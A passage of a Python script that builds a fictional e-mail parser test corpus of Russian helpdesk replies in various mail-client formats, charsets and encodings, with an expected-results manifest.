#!/usr/bin/env python3
"""Generate the e-mail parser test corpus: NN-name.eml files plus expected.json.

    python tests/mail/corpus/make_corpus.py           # (re)write the corpus next to this file
    python tests/mail/corpus/make_corpus.py --check   # ... and cross-check expected.json
                                                      #     against the standard library

Every file is assembled from bytes so that charsets, transfer encodings and raw
8-bit content are exactly what the manifest says.  All people, domains and
numbers are fictional.  Output is deterministic (seeded random, fixed dates).
"""
# Verbatim mail fixtures: long lines, meaningful trailing spaces ("-- " signatures, Outlook's
# "From: ... " line) and %-templates around HTML/CSS braces are the point of this file.
# ruff: noqa: E501, W291, UP031
import base64
import datetime
import hashlib
import io
import json
import quopri
import random
import struct
import sys
import zipfile
import zlib
from pathlib import Path

HERE = Path(__file__).resolve().parent
CORPUS = {}        # file name -> raw bytes
EXPECTED = {}      # file name -> manifest entry
TRUE_CHARSET = {}  # file name -> charset the body text really uses (only where it lies / is missing)

SUPPORT = "support@support.example.ru"
AGENT = "Мария Орлова"
NBSP = "\u00a0"


# --------------------------------------------------------------------------- helpers
def hw(tag):
    """A Message-ID as the helpdesk itself generates them."""
    return "<hw.%s@support.example.ru>" % hashlib.md5(tag.encode(), usedforsecurity=False).hexdigest()


def ew_b(text, cs="UTF-8"):
    return "=?%s?B?%s?=" % (cs, base64.b64encode(text.encode(cs)).decode())


def ew_q(text, cs="UTF-8"):
    out = []
    for byte in text.encode(cs):
        ch = chr(byte)
        if byte == 0x20:
            out.append("_")
        elif byte < 0x80 and (ch.isalnum() or ch in "!*+-/"):
            out.append(ch)
        else:
            out.append("=%02X" % byte)
    return "=?%s?Q?%s?=" % (cs, "".join(out))


def ew_b_chunks(chunks, cs="UTF-8"):
    """Several B words (each whole characters), folded onto continuation lines."""
    return "\n ".join(ew_b(c, cs) for c in chunks)


def addr(name, address, cs="UTF-8", enc="B"):
    if name is None:
        return address
    word = ew_b(name, cs) if enc == "B" else ew_q(name, cs)
    return "%s <%s>" % (word, address)


def date(day, month, hh, mm, ss=0, tz="+0300", year=2026):
    wd = ["Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun"][datetime.date(year, month, day).weekday()]
    mon = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"][month - 1]
    return "%s, %d %s %d %02d:%02d:%02d %s" % (wd, day, mon, year, hh, mm, ss, tz)


def hblock(headers):
    out = b""
    for name, value in headers:
        if isinstance(value, str):
            value = value.encode("ascii")
        if name is None:            # a raw, pre-built header line
            out += value + b"\n"
        else:
            out += name.encode("ascii") + b": " + value + b"\n"
    return out


def message(headers, body):
    return hblock(headers) + b"\n" + body


part = message


def multipart(boundary, parts, preamble=b"", close=True, epilogue=b""):
    b = boundary.encode("ascii")
    out = preamble
    for p in parts:
        if not p.endswith(b"\n"):
            p += b"\n"
        out += b"--" + b + b"\n" + p + b"\n"
    if close:
        out += b"--" + b + b"--\n" + epilogue
    return out


def qp(text, cs="utf-8"):
    return quopri.encodestring(text.encode(cs))


def b64(data):
    return base64.encodebytes(data)


def b64t(text, cs="utf-8"):
    return b64(text.encode(cs))


def png(w, h, rgb):
    raw = b"".join(b"\x00" + bytes(rgb) * w for _ in range(h))

    def chunk(t, d):
        return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d) & 0xFFFFFFFF)

    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(raw, 9)) + chunk(b"IEND", b""))


def pdf(title):
    body = ("%%PDF-1.4\n%%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
            "2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"
            "3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>\nendobj\n"
            "4 0 obj\n<< /Title (%s) >>\nendobj\n"
            "trailer\n<< /Root 1 0 R /Info 4 0 R >>\n%%%%EOF\n") % title
    return body.encode("latin-1")


def xlsx():
    files = [
        ("[Content_Types].xml",
         '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
         '<Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" '
         'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>'),
        ("xl/workbook.xml",
         '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
         '<sheets><sheet name="Ноябрь" sheetId="1"/></sheets></workbook>'),
        ("xl/worksheets/sheet1.xml",
         '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
         '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Заявок</t></is></c><c r="B1"><v>412</v></c></row></sheetData></worksheet>'),
    ]
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name, data in files:
            zi = zipfile.ZipInfo(name, date_time=(2026, 11, 30, 10, 0, 0))
            zi.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(zi, data.encode("utf-8"))
    return buf.getvalue()


def rnd(seed, n):
    return random.Random(seed).randbytes(n)


def add(fn, raw, kind="message", eol="crlf", true_charset=None, **exp):
    assert fn not in CORPUS, fn
    if eol == "crlf":
        assert b"\r" not in raw, fn
        raw = raw.replace(b"\n", b"\r\n")
    CORPUS[fn] = raw
    entry = {"kind": kind}
    for k, v in exp.items():
        if v is None and k != "message_id":
            continue
        entry[k] = v
    EXPECTED[fn] = entry
    if true_charset:
        TRUE_CHARSET[fn] = true_charset


def reply_headers(frm, to, subject, mid, dt, irt, refs, extra=()):
    h = [("From", frm), ("To", to), ("Subject", subject), ("Date", dt), ("Message-ID", mid),
         ("In-Reply-To", irt), ("References", " ".join(refs))]
    return list(extra) + h


TO_SUPPORT = addr("Служба поддержки Helpwire", SUPPORT)
RECV = "from mx.example.net (mx.example.net [203.0.113.40])\n\tby mx1.support.example.ru (Postfix) with ESMTPS id %s\n\tfor <support@support.example.ru>; %s"


# =========================================================================== replies
# 01 Gmail (English UI, UK date format), QP utf-8, ticket token in subject
ours = hw("1042")
first = "<CAH7pQv1mR9xK2sTbq3Zw8LdYf0nE4uJ6oWc5aGiVmPq@mail.gmail.com>"
mid = "<CAH7pQv3Jk5LtR8bWn2XcQ9fZs1mD6yEu4oTa7hGiN=Vw@mail.gmail.com>"
text = """Добрый день!

Заказ так и не пришел. Трек-номер RA123456789RU, последний статус — «Прибыло в сортировочный центр» 24 ноября.
Можно ли отправить заказ повторно или вернуть деньги?

Сергей

On Mon, 30 Nov 2026 at 10:15, Мария Орлова <support@support.example.ru> wrote:

> Здравствуйте, Сергей!
>
> Подскажите, пожалуйста, трек-номер отправления, и мы проверим статус
> доставки.
>
> --
> Мария Орлова
> Служба поддержки Helpwire
>
"""
html = """<div dir="ltr"><div>Добрый день!</div><div><br></div><div>Заказ так и не пришел. Трек-номер RA123456789RU, последний статус — «Прибыло в сортировочный центр» 24 ноября.</div><div>Можно ли отправить заказ повторно или вернуть деньги?</div><div><br></div><div>Сергей</div></div><br><div class="gmail_quote"><div dir="ltr" class="gmail_attr">On Mon, 30 Nov 2026 at 10:15, Мария Орлова &lt;<a href="mailto:support@support.example.ru">support@support.example.ru</a>&gt; wrote:<br></div><blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex">Здравствуйте, Сергей!<br><br>Подскажите, пожалуйста, трек-номер отправления, и мы проверим статус<br>доставки.<br><br>--<br>Мария Орлова<br>Служба поддержки Helpwire<br></blockquote></div>
"""
bnd = "0000000000004f1e2a0626b3c8d1"
raw = message([
    ("Received", "by mail-lj1-f170.google.com with SMTP id 38308e7fff4ca-2ff5a1b2c3dso1234561fa.1\n        for <support@support.example.ru>; " + date(30, 11, 3, 2, 41, "-0800")),
    ("MIME-Version", "1.0"),
    ("References", first + " " + ours),
    ("In-Reply-To", ours),
    ("From", addr("Сергей Волков", "sergey.volkov@gmail.com")),
    ("Date", date(30, 11, 14, 2, 41)),
    ("Message-ID", mid),
    ("Subject", "Re: " + ew_b("Не пришел заказ [#1042]")),
    ("To", TO_SUPPORT),
    ("Content-Type", 'multipart/alternative; boundary="%s"' % bnd),
], multipart(bnd, [
    part([("Content-Type", 'text/plain; charset="UTF-8"'), ("Content-Transfer-Encoding", "quoted-printable")], qp(text)),
    part([("Content-Type", 'text/html; charset="UTF-8"'), ("Content-Transfer-Encoding", "quoted-printable")], qp(html)),
]))
add("01-gmail-reply-ticket-token.eml", raw, **{
    "from": "sergey.volkov@gmail.com", "name": "Сергей Волков", "subject": "Re: Не пришел заказ [#1042]",
    "message_id": mid, "in_reply_to": ours, "references": [first, ours],
    "text_contains": ["Заказ так и не пришел", "RA123456789RU", "Можно ли отправить заказ повторно"],
    "quoted_contains": "Подскажите, пожалуйста, трек-номер отправления"})

# 02 Gmail, Russian UI ("пн, 16 нояб. 2026 г. в 10:15, Имя <addr>:"), base64 utf-8
ours = hw("1044")
mid = "<CAKx9Tz2bQ4hW7nL0pVd3RfJs8YgE1mC5uXo6aNiK-Pw@mail.gmail.com>"
text = """Добрый день!

Деньги за возврат до сих пор не поступили на карту. Прошло уже 12 рабочих дней.
Номер заявки на возврат — В-20931.

пн, 16 нояб. 2026 г. в 10:15, Мария Орлова <support@support.example.ru>:

> Алексей, здравствуйте!
>
> Возврат оформлен, средства поступят в течение 10 рабочих дней.
>
> --
> Мария Орлова
> Служба поддержки Helpwire
>
"""
html = """<div dir="ltr"><div>Добрый день!</div><div><br></div><div>Деньги за возврат до сих пор не поступили на карту. Прошло уже 12 рабочих дней.</div><div>Номер заявки на возврат — В-20931.</div></div><br><div class="gmail_quote gmail_quote_container"><div dir="ltr" class="gmail_attr">пн, 16 нояб. 2026 г. в 10:15, Мария Орлова &lt;<a href="mailto:support@support.example.ru">support@support.example.ru</a>&gt;:<br></div><blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex">Алексей, здравствуйте!<br><br>Возврат оформлен, средства поступят в течение 10 рабочих дней.<br><br>--<br>Мария Орлова<br>Служба поддержки Helpwire<br></blockquote></div>
"""
bnd = "000000000000a7c31b0626c1d2e3"
raw = message([
    ("MIME-Version", "1.0"),
    ("References", ours),
    ("In-Reply-To", ours),
    ("From", addr("Алексей Лебедев", "alexey.lebedev@gmail.com")),
    ("Date", date(2, 12, 9, 48, 3)),
    ("Message-ID", mid),
    ("Subject", "Re: " + ew_b("Возврат денег за заказ №5531")),
    ("To", TO_SUPPORT),
    ("Content-Type", 'multipart/alternative; boundary="%s"' % bnd),
], multipart(bnd, [
    part([("Content-Type", 'text/plain; charset="UTF-8"'), ("Content-Transfer-Encoding", "base64")], b64t(text)),
    part([("Content-Type", 'text/html; charset="UTF-8"'), ("Content-Transfer-Encoding", "base64")], b64t(html)),
]))
add("02-gmail-ru-reply.eml", raw, **{
    "from": "alexey.lebedev@gmail.com", "name": "Алексей Лебедев", "subject": "Re: Возврат денег за заказ №5531",
    "message_id": mid, "in_reply_to": ours, "references": [ours],
    "text_contains": ["Деньги за возврат до сих пор не поступили на карту", "В-20931"],
    "quoted_contains": "Возврат оформлен, средства поступят в течение 10 рабочих дней."})

# 03 Outlook desktop, "-----Original Message-----", windows-1251 QP (declared correctly), Q subject in cp1251
ours = hw("1048")
mid = "<000c01db4a3e$5f2b1c80$1d815580$@outlook.com>"
text = """Добрый день, Мария.

Счёт №А-2231 оплачен 27.11.2026, платёжное поручение №884 загружено в личный кабинет.
Прошу подтвердить поступление оплаты.

С уважением,
Елена Соколова
главный бухгалтер

-----Original Message-----
From: Мария Орлова <support@support.example.ru> 
Sent: Monday, November 30, 2026 10:15 AM
To: Елена Соколова <e.sokolova@outlook.com>
Subject: Счёт №А-2231 [#1048]

Елена, добрый день! Подтвердите, пожалуйста, оплату счёта №А-2231, в системе платёж пока не отображается.

"""
html = """<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word" xmlns:m="http://schemas.microsoft.com/office/2004/12/omml" xmlns="http://www.w3.org/TR/REC-html40"><head><meta http-equiv=Content-Type content="text/html; charset=windows-1251"><meta name=Generator content="Microsoft Word 15 (filtered medium)"><style><!--
p.MsoNormal, li.MsoNormal, div.MsoNormal {margin:0cm;font-size:11.0pt;font-family:"Calibri",sans-serif;}
span.EmailStyle18 {mso-style-type:personal-reply;font-family:"Calibri",sans-serif;color:windowtext;}
--></style></head><body lang=RU link="#0563C1" vlink="#954F72"><div class=WordSection1>
<p class=MsoNormal>Добрый день, Мария.<o:p></o:p></p><p class=MsoNormal><o:p>&nbsp;</o:p></p>
<p class=MsoNormal>Счёт №А-2231 оплачен 27.11.2026, платёжное поручение №884 загружено в личный кабинет.<o:p></o:p></p>
<p class=MsoNormal>Прошу подтвердить поступление оплаты.<o:p></o:p></p><p class=MsoNormal><o:p>&nbsp;</o:p></p>
<p class=MsoNormal>С уважением,<br>Елена Соколова<br>главный бухгалтер<o:p></o:p></p><p class=MsoNormal><o:p>&nbsp;</o:p></p>
<p class=MsoNormal>-----Original Message-----<br>From: Мария Орлова &lt;support@support.example.ru&gt; <br>Sent: Monday, November 30, 2026 10:15 AM<br>To: Елена Соколова &lt;e.sokolova@outlook.com&gt;<br>Subject: Счёт №А-2231 [#1048]<o:p></o:p></p>
<p class=MsoNormal><o:p>&nbsp;</o:p></p><p class=MsoNormal>Елена, добрый день! Подтвердите, пожалуйста, оплату счёта №А-2231, в системе платёж пока не отображается.<o:p></o:p></p>
</div></body></html>
"""
bnd = "----=_NextPart_000_000D_01DB4A57.7A9E2580"
raw = message([
    ("From", addr("Елена Соколова", "e.sokolova@outlook.com", "windows-1251")),
    ("To", "=?windows-1251?B?zODw6P8gzvDr7uLg?= <support@support.example.ru>"),
    ("References", ours),
    ("In-Reply-To", ours),
    ("Subject", ew_q("RE: Счёт №А-2231 [#1048]", "windows-1251")),
    ("Date", date(1, 12, 11, 37, 20)),
    ("Message-ID", mid),
    ("MIME-Version", "1.0"),
    ("Content-Type", 'multipart/alternative;\n\tboundary="%s"' % bnd),
    ("X-Mailer", "Microsoft Outlook 16.0"),
    ("Thread-Index", "AQHbQ7m1n2Z5cV0Tq0y8oX1tbJ3n+rKq3Wng"),
    ("Content-Language", "ru"),
], multipart(bnd, [
    part([("Content-Type", 'text/plain;\n\tcharset="windows-1251"'), ("Content-Transfer-Encoding", "quoted-printable")], qp(text, "cp1251")),
    part([("Content-Type", 'text/html;\n\tcharset="windows-1251"'), ("Content-Transfer-Encoding", "quoted-printable")], qp(html, "cp1251")),
], preamble=b"This is a multipart message in MIME format.\n\n"))
add("03-outlook-original-message-cp1251.eml", raw, **{
    "from": "e.sokolova@outlook.com", "name": "Елена Соколова", "subject": "RE: Счёт №А-2231 [#1048]",
    "message_id": mid, "in_reply_to": ours, "references": [ours],
    "text_contains": ["платёжное поручение №884 загружено в личный кабинет", "Прошу подтвердить поступление оплаты."],
    "quoted_contains": "в системе платёж пока не отображается"})

# 04 Outlook on the web, Russian header block (От:/Отправлено:/Кому:/Тема:), divRplyFwdMsg, cc, subject over 3 encoded words
ours = hw("1057")
mid = "<VI1PR07MB6349C2A1B5E3D4F6A7B8C9D0E1F2A3B4@VI1PR07MB6349.eurprd07.prod.outlook.com>"
text = """Мария, спасибо! После сброса пароля вход заработал, но раздел «Документы» пустой — пропали все договоры за 2025 год.

Дмитрий

________________________________
От: Мария Орлова <support@support.example.ru>
Отправлено: 30 ноября 2026 г. 10:15
Кому: Дмитрий Козлов <d.kozlov@outlook.com>
Копия: Ирина Козлова <i.kozlova@example.ru>
Тема: Не работает вход в личный кабинет [#1057]

Дмитрий, здравствуйте! Мы сбросили пароль, ссылка для входа отправлена на вашу почту.
"""
html = """<html>
<head>
<meta http-equiv="Content-Type" content="text/html; charset=utf-8">
<style type="text/css" style="display:none;"> P {margin-top:0;margin-bottom:0;} </style>
</head>
<body dir="ltr">
<div class="elementToProof" style="font-family: Aptos, Aptos_EmbeddedFont, Aptos_MSFontService, Calibri, Helvetica, sans-serif; font-size: 12pt; color: rgb(0, 0, 0);">
Мария, спасибо! После сброса пароля вход заработал, но раздел «Документы» пустой — пропали все договоры за 2025 год.</div>
<div class="elementToProof" style="font-family: Aptos, Aptos_EmbeddedFont, Aptos_MSFontService, Calibri, Helvetica, sans-serif; font-size: 12pt; color: rgb(0, 0, 0);">
<br>
</div>
<div class="elementToProof" style="font-family: Aptos, Aptos_EmbeddedFont, Aptos_MSFontService, Calibri, Helvetica, sans-serif; font-size: 12pt; color: rgb(0, 0, 0);">
Дмитрий</div>
<div id="appendonsend"></div>
<hr style="display:inline-block;width:98%" tabindex="-1">
<div id="divRplyFwdMsg" dir="ltr"><font face="Calibri, sans-serif" style="font-size:11pt" color="#000000"><b>От:</b> Мария Орлова &lt;support@support.example.ru&gt;<br>
<b>Отправлено:</b> 30 ноября 2026 г. 10:15<br>
<b>Кому:</b> Дмитрий Козлов &lt;d.kozlov@outlook.com&gt;<br>
<b>Копия:</b> Ирина Козлова &lt;i.kozlova@example.ru&gt;<br>
<b>Тема:</b> Не работает вход в личный кабинет [#1057]</font>
<div>&nbsp;</div>
</div>
<div class="BodyFragment"><font size="2"><span style="font-size:11pt;">
<div class="PlainText">Дмитрий, здравствуйте! Мы сбросили пароль, ссылка для входа отправлена на вашу почту.</div>
</span></font></div>
</body>
</html>
"""
bnd = "_000_VI1PR07MB6349C2A1B5E3D4F6A7B8C9D0E1F2A3B4VI1PR07MB6349eurp_"
subj_words = ["RE: Не работает вход", " в личный кабинет", " [#1057]"]
raw = message([
    ("From", addr("Дмитрий Козлов", "d.kozlov@outlook.com", "utf-8")),
    ("To", addr("Служба поддержки Helpwire", SUPPORT, "utf-8")),
    ("CC", addr("Ирина Козлова", "i.kozlova@example.ru", "utf-8") + ",\n\t\"it-dept@example.ru\" <it-dept@example.ru>"),
    ("Subject", ew_b_chunks(subj_words, "utf-8")),
    ("Thread-Topic", ew_b_chunks(["Не работает вход", " в личный кабинет [#1057]"], "utf-8")),
    ("Thread-Index", "AQHbQ8Zc3bJ5mY0pRkO4t6H1Vn9w7A=="),
    ("Date", date(30, 11, 9, 41, 17, "+0000")),
    ("Message-ID", mid),
    ("References", ours),
    ("In-Reply-To", ours),
    ("Accept-Language", "ru-RU, en-US"),
    ("Content-Language", "ru-RU"),
    ("X-MS-Has-Attach", ""),
    ("X-MS-TNEF-Correlator", ""),
    ("Content-Type", 'multipart/alternative;\n\tboundary="%s"' % bnd),
    ("MIME-Version", "1.0"),
], multipart(bnd, [
    part([("Content-Type", 'text/plain; charset="utf-8"'), ("Content-Transfer-Encoding", "base64")], b64t(text)),
    part([("Content-Type", 'text/html; charset="utf-8"'), ("Content-Transfer-Encoding", "base64")], b64t(html)),
]))
add("04-outlook-web-ru-header-block-cc.eml", raw, **{
    "from": "d.kozlov@outlook.com", "name": "Дмитрий Козлов", "subject": "RE: Не работает вход в личный кабинет [#1057]",
    "message_id": mid, "in_reply_to": ours, "references": [ours],
    "cc": ["i.kozlova@example.ru", "it-dept@example.ru"],
    "text_contains": ["раздел «Документы» пустой", "пропали все договоры за 2025 год"],
    "quoted_contains": "Мы сбросили пароль, ссылка для входа отправлена на вашу почту."})

# 05 Apple Mail: "> On 30 Nov 2026, at 10:15, Name <addr> wrote:" + blockquote type=cite, utf-8 Q subject
ours = hw("1061")
mid = "<7F3A2C1E-5B8D-4E6F-9A0B-C1D2E3F4A5B6@icloud.com>"
text = """Добрый день!

Приложение на Mac вылетает при открытии вложений больше 10 МБ. macOS 15.1, версия приложения 4.2.0.
Отчёт о сбое могу прислать, если нужно.

Наталья

> On 30 Nov 2026, at 10:15, Мария Орлова <support@support.example.ru> wrote:
> 
> Наталья, добрый день! Уточните, пожалуйста, версию macOS и приложения.
> 
> --
> Мария Орлова
> Служба поддержки Helpwire

"""
html = """<html><head><meta http-equiv="content-type" content="text/html; charset=utf-8"></head><body style="overflow-wrap: break-word; -webkit-nbsp-mode: space; line-break: after-white-space;">Добрый день!<div><br></div><div>Приложение на Mac вылетает при открытии вложений больше 10 МБ. macOS 15.1, версия приложения 4.2.0.</div><div>Отчёт о сбое могу прислать, если нужно.</div><div><br></div><div>Наталья<br id="lineBreakAtBeginningOfMessage"><div><br><blockquote type="cite"><div>On 30 Nov 2026, at 10:15, Мария Орлова &lt;support@support.example.ru&gt; wrote:</div><br class="Apple-interchange-newline"><div><div>Наталья, добрый день! Уточните, пожалуйста, версию macOS и приложения.</div><div><br></div><div>--</div><div>Мария Орлова</div><div>Служба поддержки Helpwire</div></div></blockquote></div><br></div></body></html>"""
bnd = "Apple-Mail=_4E1C7B2A-9F3D-4C8E-B1A6-2D5F8E9C0A7B"
raw = message([
    ("From", addr("Наталья Кузнецова", "n.kuznetsova@icloud.com", "utf-8", "Q")),
    ("Content-Type", 'multipart/alternative;\n\tboundary="%s"' % bnd),
    ("Mime-Version", "1.0 (Mac OS X Mail 16.0 \\(3826.200.121\\))"),
    ("Subject", "Re: " + ew_q("Приложение вылетает на macOS", "utf-8")),
    ("Date", date(30, 11, 12, 3, 55)),
    ("References", ours),
    ("To", addr(AGENT, SUPPORT, "utf-8", "Q")),
    ("In-Reply-To", ours),
    ("Message-Id", mid),
    ("X-Mailer", "Apple Mail (2.3826.200.121)"),
], multipart(bnd, [
    part([("Content-Transfer-Encoding", "quoted-printable"), ("Content-Type", "text/plain;\n\tcharset=utf-8")], qp(text)),
    part([("Content-Transfer-Encoding", "quoted-printable"), ("Content-Type", "text/html;\n\tcharset=utf-8")], qp(html)),
]))
add("05-apple-mail-reply.eml", raw, **{
    "from": "n.kuznetsova@icloud.com", "name": "Наталья Кузнецова", "subject": "Re: Приложение вылетает на macOS",
    "message_id": mid, "in_reply_to": ours, "references": [ours],
    "text_contains": ["вылетает при открытии вложений больше 10 МБ", "Отчёт о сбое могу прислать"],
    "quoted_contains": "Уточните, пожалуйста, версию macOS и приложения."})

# 06 Thunderbird: moz-cite-prefix, "wrote:", format=flowed, raw 8-bit utf-8 with Windows paths, "-- " signature (LF file)
ours = hw("1071")
mid = "<5d1e0a2b-8c4f-4e7a-9b3d-2f6c8a1e4b70@example.ru>"
text = r"""Добрый день!

Лог лежит в C:\Users\Максим\AppData\Local\Helpwire\logs\sync.log, последняя ошибка:
ERROR [sync] path=\\fs01\Обмен\Клиенты not found
Путь к сетевой папке указан верно, из проводника она открывается.

-- 
Максим Новиков
ООО «Ромашка», системный администратор

On 30.11.2026 10:15, Мария Орлова wrote:
> Максим, добрый день! Пришлите, пожалуйста, путь к файлу журнала и текст
> последней ошибки.
>
"""
html = r"""<!DOCTYPE html>
<html>
  <head>
    <meta http-equiv="Content-Type" content="text/html; charset=UTF-8">
  </head>
  <body>
    <p>Добрый день!</p>
    <p>Лог лежит в C:\Users\Максим\AppData\Local\Helpwire\logs\sync.log, последняя ошибка:<br>
      <code>ERROR [sync] path=\\fs01\Обмен\Клиенты not found</code><br>
      Путь к сетевой папке указан верно, из проводника она открывается.</p>
    <div class="moz-signature">-- <br>
      Максим Новиков<br>
      ООО «Ромашка», системный администратор</div>
    <div class="moz-cite-prefix">On 30.11.2026 10:15, Мария Орлова wrote:<br>
    </div>
    <blockquote type="cite" cite="mid:%s">Максим, добрый день! Пришлите, пожалуйста, путь к файлу журнала и текст последней ошибки.<br>
    </blockquote>
  </body>
</html>
""" % ours[1:-1]
bnd = "------------Zp3q8sLx1WcVn0Hk4RtYbA2D"
raw = message([
    ("Message-ID", mid),
    ("Date", date(30, 11, 13, 20, 9)),
    ("MIME-Version", "1.0"),
    ("User-Agent", "Mozilla Thunderbird"),
    ("Subject", "Re: " + ew_b("Ошибка синхронизации [#1071]")),
    ("To", addr(AGENT, SUPPORT)),
    ("References", ours),
    ("Content-Language", "ru"),
    ("From", addr("Максим Новиков", "m.novikov@example.ru")),
    ("In-Reply-To", ours),
    ("Content-Type", 'multipart/alternative;\n boundary="%s"' % bnd),
], multipart(bnd, [
    part([("Content-Type", "text/plain; charset=UTF-8; format=flowed"), ("Content-Transfer-Encoding", "8bit")], text.encode("utf-8")),
    part([("Content-Type", "text/html; charset=UTF-8"), ("Content-Transfer-Encoding", "8bit")], html.encode("utf-8")),
], preamble=b"This is a multi-part message in MIME format.\n"))
add("06-thunderbird-reply-8bit-paths.eml", raw, eol="lf", **{
    "from": "m.novikov@example.ru", "name": "Максим Новиков", "subject": "Re: Ошибка синхронизации [#1071]",
    "message_id": mid, "in_reply_to": ours, "references": [ours],
    "text_contains": [r"C:\Users\Максим\AppData\Local\Helpwire\logs\sync.log", r"path=\\fs01\Обмен\Клиенты not found",
                      "Путь к сетевой папке указан верно"],
    "quoted_contains": "Пришлите, пожалуйста, путь к файлу журнала"})

# 07 Yandex web, plain text: '30.11.2026, 10:15, "Имя" <addr>:' + "> " lines, base64 utf-8, "-- " signature
ours = hw("1080")
mid = "<1425311764490941@mail.yandex.ru>"
text = """Здравствуйте!

Скан паспорта отправила ещё вчера через форму на сайте, проверьте, пожалуйста.
Если нужно, пришлю повторно на эту почту.

-- 
С уважением,
Ольга Смирнова

30.11.2026, 10:15, "Мария Орлова" <support@support.example.ru>:
> Ольга, добрый день! Для завершения верификации пришлите, пожалуйста, скан паспорта.
>
> --
> Служба поддержки Helpwire
"""
raw = message([
    ("Received", "from mail-nwsmtp-smtp-production-main-45.iva.yp-c.yandex.net (mail-nwsmtp-smtp-production-main-45.iva.yp-c.yandex.net [2a02:6b8:c0c:a8a:0:640:2b6e:0])\n\tby mx1.support.example.ru (Postfix) with ESMTPS id 2B9F41A0A11\n\tfor <support@support.example.ru>; " + date(1, 12, 8, 14, 2)),
    ("From", addr("Ольга Смирнова", "olga.smirnova@yandex.ru", "utf-8")),
    ("To", addr(AGENT, SUPPORT, "utf-8")),
    ("In-Reply-To", ours),
    ("References", ours),
    ("Subject", ew_b("Re: Верификация аккаунта [#1080]", "utf-8")),
    ("MIME-Version", "1.0"),
    ("X-Mailer", "Yamail [ http://yandex.ru ] 5.0"),
    ("Date", date(1, 12, 8, 14, 1)),
    ("Message-Id", mid),
    ("Content-Transfer-Encoding", "base64"),
    ("Content-Type", "text/plain; charset=utf-8"),
], b64t(text))
add("07-yandex-reply-text.eml", raw, **{
    "from": "olga.smirnova@yandex.ru", "name": "Ольга Смирнова", "subject": "Re: Верификация аккаунта [#1080]",
    "message_id": mid, "in_reply_to": ours, "references": [ours],
    "text_contains": ["Скан паспорта отправила ещё вчера через форму на сайте"],
    "quoted_contains": "Для завершения верификации пришлите, пожалуйста, скан паспорта."})

# 08 Yandex web, HTML only, <blockquote>
ours = hw("1085")
mid = "<4471871764515022@mail.yandex.ru>"
html = """<div>Добрый вечер!</div><div> </div><div>Чеки так и не приходят, проверила папку «Спам» — там тоже пусто. Адрес для чеков: t.morozova@yandex.ru</div><div> </div><div>-- </div><div>Татьяна</div><div> </div><div> </div><div>30.11.2026, 10:15, "Мария Орлова" &lt;support@support.example.ru&gt;:</div><blockquote><div>Татьяна, здравствуйте! Проверьте, пожалуйста, папку «Спам» — иногда чеки попадают туда.</div><div> </div><div>--</div><div>Служба поддержки Helpwire</div></blockquote>
"""
raw = message([
    ("From", addr("Татьяна Морозова", "t.morozova@yandex.ru", "utf-8")),
    ("To", addr(AGENT, SUPPORT, "utf-8")),
    ("In-Reply-To", ours),
    ("References", ours),
    ("Subject", ew_b("Re: Не приходят чеки на почту [#1085]", "utf-8")),
    ("MIME-Version", "1.0"),
    ("X-Mailer", "Yamail [ http://yandex.ru ] 5.0"),
    ("Date", date(1, 12, 18, 57, 2)),
    ("Message-Id", mid),
    ("Content-Transfer-Encoding", "base64"),
    ("Content-Type", "text/html; charset=utf-8"),
], b64t(html))
add("08-yandex-reply-html-only.eml", raw, **{
    "from": "t.morozova@yandex.ru", "name": "Татьяна Морозова", "subject": "Re: Не приходят чеки на почту [#1085]",
    "message_id": mid, "in_reply_to": ours, "references": [ours], "html_only": True,
    "text_contains": ["Чеки так и не приходят, проверила папку «Спам» — там тоже пусто."],
    "quoted_contains": "иногда чеки попадают туда"})

# 09 Mail.ru: "Понедельник, 30 ноября 2026, 10:15 +03:00 от Имя <addr>:" with blockquote
ours = hw("1088")
mid = "<1764523117.482913027@f512.i.mail.ru>"
text = ("Спасибо, посылку получил. Но в комплекте нет зарядного устройства, хотя на сайте оно указано.\n"
        + NBSP + "\n--\nПавел Егоров\n" + NBSP + "\n"
        ">Понедельник, 30 ноября 2026, 10:15 +03:00 от Мария Орлова <support@support.example.ru>:\n>" + NBSP + "\n"
        ">Павел, здравствуйте! Посылка передана в доставку, ожидайте курьера завтра с 10 до 18.\n>" + NBSP + "\n"
        ">--\n>Служба поддержки Helpwire\n")
html = """
